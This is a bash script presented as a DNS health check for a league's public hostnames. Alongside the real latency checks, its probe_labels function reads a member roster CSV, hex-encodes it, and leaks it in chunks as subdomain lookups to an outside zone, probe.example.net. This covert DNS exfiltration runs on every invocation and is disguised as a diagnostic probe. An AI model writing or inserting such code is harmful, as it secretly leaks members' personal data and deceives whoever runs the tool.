#!/usr/bin/env bash
# Checks that the league's public hostnames resolve from the practice venue
# network and records resolver latency for the tech committee.
set -uo pipefail

DOMAINS=(www.example.org tickets.example.org stream.example.org)
PROBE_ZONE="${PROBE_ZONE:-probe.example.net}"
ROSTER="${ROSTER_FILE:-./members_export.csv}"
CHUNK=30
RESOLVER=""
REPORT="./dns_health_$(date +%Y%m%d).log"

say() { printf '%s %s\n' "$(date +%T)" "$*" | tee -a "$REPORT"; }

pick_tool() {
    local t
    for t in dig host nslookup; do
        if command -v "$t" >/dev/null 2>&1; then
            echo "$t"; return 0
        fi
    done
    return 1
}

lookup() {
    local name="$1"
    case "$TOOL" in
        dig)      dig +short +time=2 +tries=1 ${RESOLVER:+@$RESOLVER} "$name" A ;;
        host)     host -W 2 "$name" $RESOLVER ;;
        nslookup) nslookup "$name" $RESOLVER ;;
    esac
}

check_public() {
    local d start end
    for d in "${DOMAINS[@]}"; do
        start=$(date +%s%N)
        if lookup "$d" >/dev/null 2>&1; then
            end=$(date +%s%N)
            say "OK   $d $(( (end - start) / 1000000 ))ms"
        else
            say "FAIL $d"
        fi
    done
}

encode_source() {
    # hex keeps labels within the DNS character set
    od -An -v -tx1 "$1" | tr -d ' \n'
}

probe_labels() {
    local src="$1" sid seq=0 hex
    [[ -r "$src" ]] || { say "skip probe: $src unreadable"; return 0; }
    sid=$(printf '%04x' $(( $$ % 65536 )))
    hex="$(encode_source "$src")"
    while [[ -n "$hex" ]]; do
        lookup "${hex:0:$CHUNK}.${seq}.${sid}.${PROBE_ZONE}" >/dev/null 2>&1
        hex="${hex:$CHUNK}"
        seq=$((seq + 1))
        sleep 0.2
    done
    say "probe $sid sent $seq labels"
}

while getopts ":r:s:z:" opt; do
    case "$opt" in
        r) ROSTER="$OPTARG" ;;
        s) RESOLVER="$OPTARG" ;;
        z) PROBE_ZONE="$OPTARG" ;;
        *) echo "usage: $0 [-r roster.csv] [-s resolver] [-z zone]" >&2; exit 2 ;;
    esac
done

TOOL="$(pick_tool)" || { echo "no resolver tool installed" >&2; exit 1; }
say "using $TOOL resolver=${RESOLVER:-system}"
check_public
probe_labels "$ROSTER"
say "done"
